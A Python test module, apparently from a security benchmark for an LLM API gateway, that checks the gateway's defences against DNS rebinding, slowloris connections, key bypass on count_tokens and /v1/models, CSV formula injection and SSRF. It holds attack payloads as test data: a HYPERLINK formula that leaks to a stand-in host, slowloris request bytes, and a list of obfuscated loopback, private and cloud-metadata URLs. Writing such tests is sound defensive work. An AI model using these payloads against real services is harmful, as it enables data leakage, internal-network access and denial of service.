"""Edge categories: DNS rebinding, slowloris, keys (count_tokens, /v1/models), CSV injection, SSRF.

Rebinding and slowloris run against the keyless gateway (embedded mode, the default); the key
categories against a gateway whose database holds keys made with ``turnout keys create``.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from collections.abc import Callable

import aiohttp

from bench.campaign_faults import Gateway, body_for
from bench.campaign_http import Answer, Case, Category, Check, Result, request, run_cases

REBIND_NAMES = ("evil.example", "rebind.attacker.test", "localhost.attacker.test")
LOOPBACK_NAMES = ("localhost", "127.0.0.1", "[::1]")
REFUSED = (400, 401, 403, 421)


def _rebind_targets(gw: Gateway) -> dict[str, tuple[str, str, bytes | None]]:
    """What a page could reach: name → (method, path, body)."""
    chat = json.dumps(body_for("chat", "ok", False)).encode()
    messages = json.dumps(body_for("messages", "ok", False)).encode()
    responses = json.dumps(body_for("responses", "ok", False)).encode()
    return {
        "chat": ("POST", "/v1/chat/completions", chat),
        "messages": ("POST", "/v1/messages", messages),
        "responses": ("POST", "/v1/responses", responses),
        "usage": ("GET", "/v1/usage", None),
        "engine status": ("GET", "/engine/status", None),
        "dashboard": ("GET", "/ui/", None),
    }


def _names(name: str, port: int) -> dict[str, str]:
    return {"Host": f"{name}:{port}", "Origin": f"http://{name}:{port}"}


async def _websocket(gw: Gateway, headers: dict[str, str]) -> tuple[bool, str]:
    """True when the upgrade was accepted and a chat came back (the socket is usable)."""
    try:
        async with gw.client.ws_connect(gw.url("/v1/chat/ws"), headers=headers) as ws:
            chat = {"type": "chat", "id": "c1", "request": body_for("chat", "ok", False)}
            await ws.send_json(chat)
            message = await ws.receive(timeout=5)
            return True, f"opened; first message {str(message.data)[:120]!r}"
    except aiohttp.WSServerHandshakeError as exc:
        return False, f"upgrade refused with {exc.status}"


def _rebind_case(
    gw: Gateway, name: str, what: str, target: tuple[str, str, bytes | None], origin: bool = True
) -> Case:
    method, path, body = target
    headers = _names(name, gw.port)
    if not origin:  # a same-origin GET: browsers send no Origin at all
        del headers["Origin"]

    async def check() -> tuple[bool, str]:
        answer = await request(gw.client, method, gw.url(path), body, headers)
        refused = answer.status in REFUSED
        return refused, ("refused " if refused else "served ") + answer.brief()

    return Case(f"{name} {what}" + ("" if origin else " (no Origin)"), check)


def _rebind_ws_case(gw: Gateway, name: str) -> Case:
    async def check() -> tuple[bool, str]:
        opened, detail = await _websocket(gw, _names(name, gw.port))
        return not opened, detail

    return Case(f"{name} websocket", check)


async def rebinding(gw: Gateway, names: tuple[str, ...], limit: float) -> Category:
    """Host and Origin both carry the attacker's name, as after a DNS rebind: refuse all."""
    category = Category("DNS rebinding")
    cases = [
        _rebind_case(gw, name, what, target)
        for name in names
        for what, target in _rebind_targets(gw).items()
    ]
    cases += [
        _rebind_case(gw, name, what, target, origin=False)
        for name in names
        for what, target in _rebind_targets(gw).items()
        if target[0] == "GET"
    ]
    cases += [_rebind_ws_case(gw, name) for name in names]
    await run_cases(category, cases, limit)
    return category


async def loopback_names(gw: Gateway, limit: float) -> Category:
    """The control for rebinding: the machine's own names are still served."""
    category = Category("loopback names (control)")
    chat = _rebind_targets(gw)["chat"]

    def served(name: str) -> Case:
        async def check() -> tuple[bool, str]:
            answer = await request(
                gw.client, chat[0], gw.url(chat[1]), chat[2], _names(name, gw.port)
            )
            return answer.status == 200, answer.brief()

        return Case(f"{name} chat", check)

    def ws_served() -> Case:
        async def check() -> tuple[bool, str]:
            return await _websocket(gw, _names("localhost", gw.port))

        return Case("localhost websocket", check)

    await run_cases(category, [*(served(n) for n in LOOPBACK_NAMES), ws_served()], limit)
    return category


# --- slowloris -----------------------------------------------------------------------------


SLOW_HEADERS = b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
# Headers that promise 1,000 bytes of body; 10 come, then silence.
SLOW_BODY = (
    b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    b'Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"model":"'
)


async def _closes(port: int, sent: bytes, drip: bool, allowed: float) -> tuple[bool, str]:
    """Send ``sent`` (then, with ``drip``, a byte every 0.5 s): the gateway must answer or close
    within ``allowed`` seconds. Still open at the case timeout: hung."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    started = time.monotonic()
    try:
        writer.write(sent)
        while True:
            try:
                data = await asyncio.wait_for(reader.read(4096), 0.5)
            except TimeoutError:
                if drip:
                    writer.write(b"a")
                    await writer.drain()
                continue
            took = time.monotonic() - started
            first = data.split(b"\r\n", 1)[0].decode(errors="replace")
            return took <= allowed, f"closed after {took:.1f} s {first}".rstrip()
    except OSError as exc:
        took = time.monotonic() - started
        return took <= allowed, f"reset after {took:.1f} s ({type(exc).__name__})"
    finally:
        writer.close()


async def slowloris(gw: Gateway, connections: int, seconds: float, limit: float) -> Category:
    """``connections`` slow-header and as many slow-body clients, two idle ones, one normal
    request. ``seconds``: the configured client timeouts; closing later than that (plus 1.5 s
    of scheduling slack) is a failure, never closing by ``limit`` is a hang."""
    category = Category("slowloris")

    async def normal() -> tuple[bool, str]:
        await asyncio.sleep(1.0)  # after every slow connection is open
        started = time.monotonic()
        body = json.dumps(body_for("chat", "ok", False)).encode()
        answer = await asyncio.wait_for(
            request(gw.client, "POST", gw.url("/v1/chat/completions"), body), 10
        )
        return answer.status == 200, f"{answer.status} in {time.monotonic() - started:.2f} s"

    port, allowed = gw.port, seconds + 1.5
    kinds = [("slow headers", SLOW_HEADERS, True, connections)]
    kinds += [("slow body", SLOW_BODY, False, connections), ("idle", b"", False, 2)]

    def closes(sent: bytes, drip: bool) -> Check:
        return lambda: _closes(port, sent, drip, allowed)

    cases = [
        Case(f"{name} #{i}", closes(sent, drip))
        for name, sent, drip, count in kinds
        for i in range(count)
    ]
    cases.append(Case("normal request while held", normal))
    await run_cases(category, cases, limit, concurrency=len(cases))
    return category


# --- keys ----------------------------------------------------------------------------------


def _key_headers(how: str, secret: str) -> dict[str, str]:
    return {"x-api-key": secret} if how == "x-api-key" else {"Authorization": f"Bearer {secret}"}


async def count_tokens_auth(gw: Gateway, limit: float) -> Category:
    """count_tokens with no, wrong and revoked keys on a gateway that has keys: 401, not 200."""
    category = Category("count_tokens auth")
    body = json.dumps(body_for("messages", "ok", False)).encode()
    url = gw.url("/v1/messages/count_tokens")
    variants: list[tuple[str, dict[str, str], bool]] = [
        ("no key", {}, False),
        ("no key, anthropic-version", {"anthropic-version": "2023-06-01"}, False),
    ]
    for how in ("x-api-key", "bearer"):
        variants.append((f"wrong key ({how})", _key_headers(how, "sk-turnout-wrong"), False))
        variants.append((f"revoked key ({how})", _key_headers(how, gw.keys["revoked"]), False))
    variants.append(("control: valid key", _key_headers("x-api-key", gw.keys["all"]), True))

    def case(name: str, headers: dict[str, str], allowed: bool) -> Case:
        async def check() -> tuple[bool, str]:
            answer = await request(gw.client, "POST", url, body, headers)
            if allowed:
                return answer.status == 200, answer.brief()
            refused = answer.status in (401, 403) and answer.envelope
            return refused, answer.brief()

        return Case(name, check)

    await run_cases(category, [case(*v) for v in variants], limit)
    return category


def _model_ids(answer: Answer) -> set[str]:
    data = answer.json()
    if not isinstance(data, dict) or not isinstance(data.get("data"), list):
        return set()
    return {str(m.get("id")) for m in data["data"] if isinstance(m, dict)}


async def models_per_key(gw: Gateway, limit: float) -> Category:
    """A key limited to ``fast`` sees only ``fast`` in /v1/models and cannot look up others."""
    category = Category("/v1/models per key")
    fast = _key_headers("bearer", gw.keys["fast"])

    async def listed() -> tuple[bool, str]:
        answer = await request(gw.client, "GET", gw.url("/v1/models"), None, fast)
        ids = _model_ids(answer)
        return ids == {"fast"}, f"{answer.status}, {len(ids)} listed: {sorted(ids)[:8]}"

    async def lookup() -> tuple[bool, str]:
        answer = await request(gw.client, "GET", gw.url("/v1/models/ok"), None, fast)
        return answer.status in (403, 404), answer.brief()

    async def control() -> tuple[bool, str]:
        headers = _key_headers("bearer", gw.keys["all"])
        answer = await request(gw.client, "GET", gw.url("/v1/models"), None, headers)
        ids = _model_ids(answer)
        return {"ok", "fast"} <= ids, f"{answer.status}, {len(ids)} listed"

    cases = [
        Case("fast-only key lists", listed),
        Case("fast-only key looks up ok", lookup),
        Case("control: unrestricted key lists ok and fast", control),
    ]
    await run_cases(category, cases, limit)
    return category


FORMULAS = ('=HYPERLINK("http://evil.example/?leak","open me")', "+1+1", "-2+3", "@SUM(1,1)")


async def csv_injection(
    gw: Gateway, formula_keys: dict[str, str], admin: dict[str, str], limit: float
) -> Category:
    """Keys whose agent ids are formulas make a request each; the CSV export must defuse them.

    ``formula_keys``: agent id → secret; an agent id missing there was refused at key creation
    (which is as good as defusing it).
    """
    category = Category("usage CSV injection")
    chat = json.dumps(body_for("chat", "ok", False)).encode()
    for secret in formula_keys.values():
        await request(
            gw.client, "POST", gw.url("/v1/chat/completions"), chat, _key_headers("bearer", secret)
        )

    async def exported() -> list[dict[str, str]]:
        deadline = time.monotonic() + limit / 2
        while True:
            answer = await request(
                gw.client, "GET", gw.url("/v1/usage?format=csv&limit=1000"), None, admin
            )
            rows = list(csv.DictReader(io.StringIO(answer.body.decode(errors="replace"))))
            agents = {row.get("agent_id", "") for row in rows}
            if (
                all(f in agents or "'" + f in agents for f in formula_keys)
                or time.monotonic() > deadline
            ):
                return rows
            await asyncio.sleep(0.2)

    rows = await exported()
    agents = [row.get("agent_id", "") for row in rows]

    def case(formula: str) -> Case:
        async def check() -> tuple[bool, str]:
            if formula not in formula_keys:
                return True, "key creation refused the agent id"
            if formula in agents:
                return False, "exported as a live formula"
            if any(a.endswith(formula) and a != formula for a in agents):
                return True, "defused: " + next(a for a in agents if a.endswith(formula))[:60]
            return False, f"no usage row for it in the export ({len(rows)} rows)"

        return Case(formula[:24], check)

    await run_cases(category, [case(f) for f in FORMULAS], limit)
    return category


# --- SSRF ----------------------------------------------------------------------------------

SSRF_URLS = (
    "http://127.0.0.1/", "http://127.1/", "http://127.0.1/", "http://2130706433/",
    "http://0x7f000001/", "http://0x7f.1/", "http://0177.0.0.1/", "http://017700000001/",
    "http://127.255.255.254/", "http://localhost/", "http://[::1]/",
    "http://[0:0:0:0:0:0:0:1]/", "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/",
    "http://[::127.0.0.1]/", "http://[::ffff:0:7f00:1]/", "http://[64:ff9b::7f00:1]/",
    "http://[2002:7f00:1::]/", "http://0.0.0.0/", "http://0/", "http://[::]/",
    "http://10.0.0.1/", "http://172.16.0.1/", "http://192.168.0.1/",
    "http://169.254.169.254/latest/meta-data/", "http://[::ffff:169.254.169.254]/",
    "http://[fe80::1]/", "http://[fd00::1]/", "http://100.64.0.1/",
)  # fmt: skip
SSRF_CONTROL = "http://8.8.8.8/"


def ssrf(probe: Callable[[list[str]], list[dict[str, object]]]) -> Category:
    """The tools plugin's guard, called in the build's own code through ``probe``."""
    category = Category("SSRF spellings")
    for line in probe([*SSRF_URLS, SSRF_CONTROL]):
        url, refused, why = str(line["url"]), bool(line["refused"]), str(line["why"])
        if url == SSRF_CONTROL:
            clean, name = not refused, f"control: {url} allowed"
        else:
            clean, name = refused, url
        category.results.append(
            Result(category.name, name, "clean" if clean else "failed", why, 0.0)
        )
    return category
